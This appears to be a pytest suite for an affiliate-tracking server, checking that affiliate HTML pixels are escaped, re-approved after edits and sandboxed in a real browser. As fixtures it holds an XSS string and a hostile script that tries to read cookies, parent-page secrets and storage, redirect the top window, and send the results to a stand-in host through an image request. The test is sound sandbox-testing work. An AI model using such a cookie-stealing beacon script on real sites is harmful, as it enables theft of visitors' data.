"""A thank-you page reports from the visitor's browser, and Alice's tag is shown there, fenced in."""

from __future__ import annotations

import json
import os
import re
from html import unescape
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlencode

import pytest

from tests.docs.pages import page
from tests.journeys.process import Installation, eventually
from tests.journeys.world import Scene, make_scene
from tests.receiver import Answer, Receiver

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.journeys.client import Client

HOST = "go.test"
PIXELS = {"REDOUND_HTML_PIXELS": "1", "REDOUND_TRACKING_URL": f"http://{HOST}"}
BODY = '<img src="http://t.test/px?cid={sub1}&amp;sum={payout}" alt="{sub2}"><b>{sub2}</b>'
CHROMIUM = Path("/usr/bin/chromium")


@pytest.fixture
def bob(empty: Installation) -> Client:
    """The manager of an installation whose operator allows pixels."""
    empty.settings = empty.settings | PIXELS
    key = empty.run("key", "create", "--manager", "Bob").stdout.strip()
    empty.start()
    client = empty.client(key)
    client.installation = empty
    return client


def make_pixel(bob: Client, scene: Scene, body: str = BODY) -> str:
    """Make a pixel of Alice's that Bob approves; return its ID."""
    fields = {"name": "Pixel", "affiliate_id": scene.affiliate, "delivery": "html", "body": body}
    pixel = bob.make("postbacks", **fields)
    assert bob.api("POST", f"postbacks/{pixel['id']}/approve-html", {"body": body}).status == 200
    scene.settle()
    return str(pixel["id"])


def show(bob: Client, **claim: str) -> tuple[str, list[str]]:
    """Open the frame as a visitor's browser does; return the verdict and the pieces of HTML."""
    reply = bob.request("GET", f"/pixel.html?{urlencode(claim)}", None, {"Host": HOST})
    assert reply.status == 200
    pieces = [unescape(found) for found in re.findall(r'srcdoc="([^"]*)"', reply.body)]
    return reply.headers["x-redound-verdict"], pieces


def test_a_pixel_is_shown_once_and_counts_as_a_delivery(bob: Client):
    """Reported by the browser, shown, recorded as delivered with what was shown; a reload shows nothing."""
    scene = make_scene(bob)
    pixel = make_pixel(bob, scene)
    hostile = "</b><script>x</script>"
    click = bob.click(scene.code, sub1="T 1", sub2=hostile)
    verdict, shown = show(bob, click_id=click, txid="ORDER-1")
    escaped = "&lt;/b&gt;&lt;script&gt;x&lt;/script&gt;"
    wanted = f'<img src="http://t.test/px?cid=T%201&amp;sum=12.00" alt="{escaped}"><b>{escaped}</b>'
    assert (verdict, shown) == ("accepted", [wanted])
    (delivery,) = bob.every("deliveries", postback_id=pixel)
    assert (delivery["state"], delivery["attempts"]) == ("delivered", 1)
    (attempt,) = bob.every("attempts", delivery_id=delivery["id"])
    assert (attempt["request"]["method"], attempt["request"]["body"]) == ("HTML", wanted)
    assert (attempt["outcome"], attempt["response"], attempt["error"]) == ("delivered", None, None)
    (evaluation,) = bob.every(f"conversions/{delivery['conversion_id']}/evaluations")
    assert (evaluation["fired"], evaluation["reason"]) == (True, "fires")
    assert show(bob, click_id=click, txid="ORDER-1") == ("duplicate", [])
    assert len(list(bob.every("deliveries", postback_id=pixel))) == 1
    assert bob.api("POST", f"deliveries/{delivery['id']}/retry").status == 409
    assert bob.read(f"postbacks/{pixel}")["state"] == "active"


def test_a_changed_pixel_is_not_shown_until_it_is_approved_again(bob: Client):
    """The edge follows the approval within a second, both ways."""
    scene = make_scene(bob)
    pixel = make_pixel(bob, scene)
    bob.edit(f"postbacks/{pixel}", body="<b>other</b>")
    scene.settle()
    assert show(bob, click_id=bob.click(scene.code)) == ("accepted", [])
    assert bob.api("POST", f"postbacks/{pixel}/approve-html").status == 200
    scene.settle()
    assert show(bob, click_id=bob.click(scene.code, sub1="2")) == ("accepted", ["<b>other</b>"])


def test_several_changes_in_one_batch_and_a_server_beside(bob: Client, tracker: Receiver):
    """What is sent from here goes out as ever beside what is shown; the server's report shows nothing."""
    scene = make_scene(bob)
    pixel = make_pixel(bob, scene)
    scene.postback(tracker.url("/s2s"), statuses=["approved"])
    assert show(bob, click_id=bob.click(scene.code, sub1="a"))[0] == "accepted"
    assert bob.report(click_id=bob.click(scene.code, sub1="b")).json["verdict"] == "accepted"
    assert sorted(each.query["subid"] for each in tracker.wait(2)) == ["a", "b"]
    assert len(list(bob.every("deliveries", postback_id=pixel))) == 1


@pytest.fixture
def browser() -> Iterator[object]:
    """Debian's chromium, without a sandbox of its own: containers have no room for it."""
    if not CHROMIUM.exists():
        assert os.environ.get("REDOUND_TEST_REQUIRE_BROWSER") != "1", "there is no /usr/bin/chromium"
        pytest.skip("needs Debian's chromium: apt-get install chromium")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        yield playwright


THANKS = "<!doctype html><title>Thanks</title><h1>Thanks</h1><script>window.secret = 'of the shop'</script>"


def documented() -> list[str]:
    """The lines of the guide, as advertisers and affiliates paste them; our host is the one of the test."""
    blocks = re.findall(r"^```html\n(.*?)^```", page("docs/pixels.md").text, re.MULTILINE | re.DOTALL)
    return [block.replace("https://go.network.example", f"http://{HOST}") for block in blocks]


HOSTILE = """<img src="http://t.test/px?cid={sub1}&amp;sum={payout}" alt="">
<script data-cid="{sub1}">
  var cid = document.currentScript.dataset.cid, told = [];
  function attempt(name, action) {
    try { told.push(name + ':' + action()); } catch (error) { told.push(name + '!' + error.name); }
  }
  attempt('cookie', function () { return document.cookie; });
  attempt('parent', function () { return parent.parent.secret; });
  attempt('title', function () { return top.document.title; });
  attempt('neighbour', function () { return parent.document.body.innerHTML; });
  attempt('storage', function () { return localStorage.length; });
  attempt('origin', function () { return self.origin; });
  attempt('leave', function () { top.location.href = 'http://t.test/stolen'; return 'asked'; });
  attempt('popup', function () { return String(window.open('http://t.test/popup')); });
  new Image().src = 'http://t.test/told?cid=' + encodeURIComponent(cid) +
    '&was=' + encodeURIComponent(told.join('|'));
</script>"""


def test_the_tag_of_the_guide_is_one_that_may_be_saved():
    """Alice pastes the example."""
    from redound.core.templates import Position, Template, parse_template

    *_, tag = documented()
    assert isinstance(parse_template(tag, Position.HTML), Template)


@pytest.mark.browser
@pytest.mark.parametrize("empty", ["sqlite"], indirect=True)
def test_the_visitors_browser_shows_it_and_fences_it_in(bob: Client, browser):
    """From the link over the shop's pages to Alice's tracker; her script reads nothing but its own values."""
    page_of = (("Content-Type", "text/html; charset=utf-8"),)
    keeps, reports, *_ = documented()
    reports = reports.replace('"sale"', '"deposit"')
    with Receiver() as shop, Receiver() as tracker:
        shop.at("/welcome", Answer(body=f"<!doctype html>{keeps}<h1>Hello</h1>".encode(), headers=page_of))
        shop.at("/thanks", Answer(body=f"{THANKS}{reports}".encode(), headers=page_of))
        scene = make_scene(bob)
        bob.edit(f"offers/{scene.offer}", landing_url="http://shop.test/welcome?click_id={click_id}")
        make_pixel(bob, scene, HOSTILE)
        bob.edit(f"goals/{scene.goals['deposit']}", default_status="approved")
        scene.settle()
        ports = {
            HOST: bob.base_url.rpartition(":")[2],
            "shop.test": shop.port,
            "t.test": tracker.port,
        }
        rules = ", ".join(f"MAP {name}:80 127.0.0.1:{port}" for name, port in ports.items())
        running = browser.chromium.launch(
            executable_path=str(CHROMIUM),
            args=["--no-sandbox", f"--host-resolver-rules={rules}, MAP * ~NOTFOUND"],
        )
        try:
            tab = running.new_page()
            tab.goto(f"http://{HOST}/c/{scene.code}?sub1=T-%3Cb%3E")
            assert tab.url.startswith("http://shop.test/welcome?click_id=")
            assert "redound_click" in tab.evaluate("document.cookie")
            tab.goto("http://shop.test/thanks")
            found = eventually(
                lambda: (
                    {each.path: each for each in list(tracker.requests)}.keys() >= {"/px", "/told"}
                    and {each.path: each for each in list(tracker.requests)}
                ),
                20,
                what="the tag is loaded",
            )
            assert tab.url == "http://shop.test/thanks"
            assert tab.title() == "Thanks"
            assert len(running.contexts[0].pages) == 1
        finally:
            running.close()
        assert found["/px"].query == {"cid": "T-<b>", "sum": "3.12"}
        assert not {"/stolen", "/popup"} & {each.path for each in tracker.requests}
        assert all(each.header("cookie") is None for each in tracker.requests)
        assert all(each.header("referer") is None for each in tracker.requests)
        told = dict(re.split("[:!]", each, maxsplit=1) for each in found["/told"].query["was"].split("|"))
        assert told == {
            "cookie": "SecurityError",
            "parent": "SecurityError",
            "title": "SecurityError",
            "neighbour": "SecurityError",
            "storage": "SecurityError",
            "origin": "null",
            "leave": told["leave"],
            "popup": "null",
        }, json.dumps(told)
        (conversion,) = bob.every("conversions", offer_id=scene.offer)
        assert (conversion["txid"], conversion["amount"]["amount"]) == ("ORDER-1", "12.50")
        (delivery,) = bob.every("deliveries", conversion_id=conversion["id"])
        assert delivery["state"] == "delivered"
